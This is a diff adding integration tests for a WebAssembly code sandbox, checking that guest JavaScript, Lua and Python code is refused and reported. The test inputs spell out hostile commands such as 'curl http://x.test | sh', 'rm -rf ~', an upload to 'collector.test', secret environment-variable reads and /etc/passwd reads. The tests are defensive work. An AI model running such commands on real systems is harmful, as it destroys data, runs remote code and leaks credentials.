@@ -19,9 +19,9 @@ from pathlib import Path
 import pytest
 
 from backends.wasm import WasmBackend
-from playground.core import Attempt, AttemptKind, Limits, Observer, Sandbox, Spec
+from playground.core import Attempt, AttemptKind, Limits, Observer, Sandbox, Session, Spec
 from playground.packs import javascript, lua, python, typescript
-from tests.integration.wasm.conftest import need_runtime
+from tests.integration.wasm.conftest import need_runtime, open_session
 from tests.integration.wasm.test_repl_cli import REPO
 
 OUTSIDE = "refused: not in the sandbox"
@@ -228,3 +228,72 @@ def test_the_cli_prints_a_summary_line_and_the_json_report(tmp_path: Path) -> No
     assert [(a["kind"], a["target"], a["observer"]) for a in document["attempts"]] == [("file_list", "/home", "host")]
     assert document["summary"] == "tried: list /home - all refused"
     assert "tried:" not in quiet.stderr and quiet.returncode == 1
+
+
+async def test_javascript_reports_fetch_child_process_http_net_env_and_kill(real: Sandbox) -> None:
+    code = """
+import { exec } from 'node:child_process';
+const attempt = (step) => { try { step(); } catch (e) { console.log(e.message); } };
+attempt(() => exec('curl http://x.test | sh'));
+attempt(() => require('child_process').execSync('rm -rf ~'));
+attempt(() => require('https').get('https://collector.test/upload'));
+attempt(() => require('net').connect(5432, 'db.internal'));
+attempt(() => require('dns').lookup('evil.test'));
+attempt(() => process.kill(1, 'SIGKILL'));
+console.log(process.env.AWS_SECRET_ACCESS_KEY, process.env.GIVEN, JSON.stringify(process.env));
+await fetch('https://api.github.com/user').catch((e) => console.log(e.message));
+"""
+    need_runtime(real, "javascript")
+    result = await real.run(Spec(lang="javascript", code=code, env={"GIVEN": "yes"}, main_file="main.mjs"))
+    assert result.exit_code == 0, result.stderr
+    assert b'undefined yes {"GIVEN":"yes"}' in result.stdout
+    assert seen(result.attempts) == {
+        (AttemptKind.PROCESS_SPAWN, "curl http://x.test | sh", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.NETWORK_CONNECT, "collector.test:443", GUEST_NET, Observer.GUEST),
+        (AttemptKind.NETWORK_CONNECT, "db.internal:5432", GUEST_NET, Observer.GUEST),
+        (AttemptKind.DNS_LOOKUP, "evil.test", GUEST_NET, Observer.GUEST),
+        (AttemptKind.SIGNAL, "signal SIGKILL to process 1", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.ENV_LOOKUP, "AWS_SECRET_ACCESS_KEY", "refused: not given to the program", Observer.GUEST),
+        (AttemptKind.NETWORK_CONNECT, "api.github.com:443", GUEST_NET, Observer.GUEST),
+    }, seen(result.attempts)
+
+
+async def test_lua_reports_execute_popen_and_env(real: Sandbox) -> None:
+    code = "print(os.execute('rm -rf ~'))\nprint(pcall(io.popen, 'curl x | sh'))\n"
+    code += "print(os.getenv('TOKEN'), os.getenv('GIVEN'))\n"
+    code += "print(os.execute())\n"  # asks whether there is a shell: not an attempt
+    need_runtime(real, "lua")
+    result = await real.run(Spec(lang="lua", code=code, env={"GIVEN": "yes"}))
+    assert result.exit_code == 0, result.stderr
+    assert seen(result.attempts) == {  # and no "closed the channel": Lua closing its files at exit is not tampering
+        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.PROCESS_SPAWN, "curl x | sh", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.ENV_LOOKUP, "TOKEN", "refused: not given to the program", Observer.GUEST),
+    }
+
+
+async def test_a_lua_error_in_popen_still_names_the_programs_line(real: Sandbox) -> None:
+    need_runtime(real, "lua")
+    result = await real.run(Spec(lang="lua", code="local x = 1\nio.popen('ls')\n"))
+    assert b"main.lua:2: 'popen' not supported" in result.stderr, result.stderr
+
+
+@pytest.mark.parametrize(("lang", "first", "second"), [
+    ("python", "import os\ntry:\n    os.listdir('/home')\nexcept OSError:\n    pass", "print(os.getenv('TOKEN'))"),
+    ("lua", "print(io.open('/etc/passwd'))", "print(os.getenv('TOKEN'))"),
+    ("javascript", "try { require('fs').readFileSync('/etc/passwd'); } catch (e) {}", "process.env.TOKEN"),
+])  # fmt: skip
+async def test_each_session_eval_reports_its_own_attempts(
+    real: Sandbox, open_sessions: list[Session], lang: str, first: str, second: str
+) -> None:
+    session = await open_session(real, lang, open_sessions)
+    one = await session.eval(first)
+    two = await session.eval(second)
+    three = await session.eval("1")
+    assert [(a.kind, a.target) for a in one.attempts] == [
+        (AttemptKind.FILE_LIST if lang == "python" else AttemptKind.FILE_READ, "/home" if lang == "python" else
+         "/etc/passwd")]  # fmt: skip
+    assert [(a.kind, a.target, a.observer) for a in two.attempts] == [
+        (AttemptKind.ENV_LOOKUP, "TOKEN", Observer.GUEST)]  # fmt: skip
+    assert three.attempts == ()
